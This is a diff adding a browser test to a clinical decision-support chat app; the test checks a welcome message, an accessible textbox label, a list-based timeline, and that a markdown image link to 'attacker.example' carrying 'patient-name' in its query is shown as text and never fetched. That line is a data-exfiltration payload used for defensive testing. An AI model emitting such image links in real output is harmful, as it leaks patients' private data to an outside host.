@@ -109,3 +109,32 @@ def test_question_image_and_approved_prescription(app_url: tuple[str, Ehr], page
     ask(page, "What does this image show?")
     page.locator("#chat").get_by_text("image attached", exact=False).last.wait_for(timeout=TIMEOUT_MS)
     page.screenshot(path=str(ARTIFACTS / "05_record_image_sent_to_chat.png"), full_page=True)
+
+
+def test_page_welcomes_labels_fetches_no_remote_image_and_lists_the_timeline(app_url: tuple[str, Ehr], page: Any) -> None:
+    """Issue 9 items 13 and 14 in the browser: a welcome message on load, the textbox named for people
+    (screen readers), the clinician's own ``![x](http://…)`` shown as text without any request to that host
+    (it used to be fetched), and a timeline that reads at 1440 px (a list; the table broke words apart)."""
+    url, _ = app_url
+    ARTIFACTS.mkdir(exist_ok=True)
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    page.goto(url, wait_until="domcontentloaded")
+    page.locator("#chat").get_by_text("clinical decision-support assistant", exact=False).first.wait_for(timeout=TIMEOUT_MS)
+    box = page.get_by_label("Your message to the assistant")
+    assert box.count() == 1
+
+    box.fill("What is hypertension? ![x](http://attacker.example/pixel.png?q=patient-name)")
+    box.press("Enter")
+    page.get_by_text("Confidence:", exact=False).first.wait_for(timeout=TIMEOUT_MS)
+    page.wait_for_timeout(1000)
+    assert "![x](http://attacker.example" in page.locator("#chat").inner_text()  # shown as text …
+    assert not [u for u in requested if "attacker.example" in u]  # … and never fetched
+
+    box.fill("Check interactions between warfarin, aspirin and ibuprofen")
+    box.press("Enter")
+    timeline = page.locator("#timeline")
+    timeline.get_by_text("Drug Interaction Check", exact=False).first.wait_for(timeout=TIMEOUT_MS)
+    assert timeline.locator("li").count() >= 5 and timeline.locator("table").count() == 0
+    timeline.screenshot(path=str(ARTIFACTS / "06_timeline_at_1440px.png"))
+    assert not [u for u in requested if "attacker.example" in u]
